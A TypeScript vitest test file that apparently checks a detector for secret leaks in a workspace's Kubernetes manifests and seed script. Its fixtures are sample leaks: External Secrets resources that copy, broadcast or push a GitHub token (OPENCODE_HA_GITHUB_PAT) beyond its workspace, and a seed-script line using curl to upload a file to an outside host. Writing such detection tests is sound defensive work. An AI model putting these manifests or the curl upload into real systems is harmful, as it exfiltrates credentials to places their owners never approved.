import { it } from "vitest";
import { expectFound, fromStore, resource, seed, text } from "../test-check.ts";

it("finds a workspace's secrets in other Secrets, and a login that goes elsewhere", () =>
  expectFound("manifests", [
    [
      resource(
        "other",
        "external-secrets.io/v1",
        "ExternalSecret",
        `{ ${fromStore}, dataFrom: [{ find: { name: { regexp: ".*" } } }] }`,
      ),
      "secret-elsewhere",
      /find/,
      /ExternalSecret other brings OPENCODE_/,
    ],
    [
      resource(
        "all",
        "external-secrets.io/v1",
        "ClusterExternalSecret",
        `{ namespaceSelectors: [{}], externalSecretSpec: { ${fromStore}, target: { name: x }, data: [{ secretKey: P, remoteRef: { key: OPENCODE_HA_GITHUB_PAT } }] } }`,
      ),
      "secret-elsewhere",
      /OPENCODE_HA_GITHUB_PAT/,
      /that of opencode-ha/,
    ],
    [
      resource(
        "push",
        "external-secrets.io/v1alpha1",
        "PushSecret",
        "{ secretStoreRefs: [{ name: doppler-secrets, kind: ClusterSecretStore }], selector: { secret: { name: opencode-ha-secret } }, data: [{ match: { secretKey: GITHUB_PAT, remoteRef: { remoteKey: X } } }] }",
      ),
      "secret-elsewhere",
      /selector/,
      /once more/,
    ],
    [
      text(
        seed,
        '  echo "stored $key in',
        '  curl -s -F "f=@$file" https://example.org >/dev/null\n  echo "stored $key in',
      ),
      "seed-script-leaks",
      /curl/,
      /nowhere else/,
    ],
  ]));
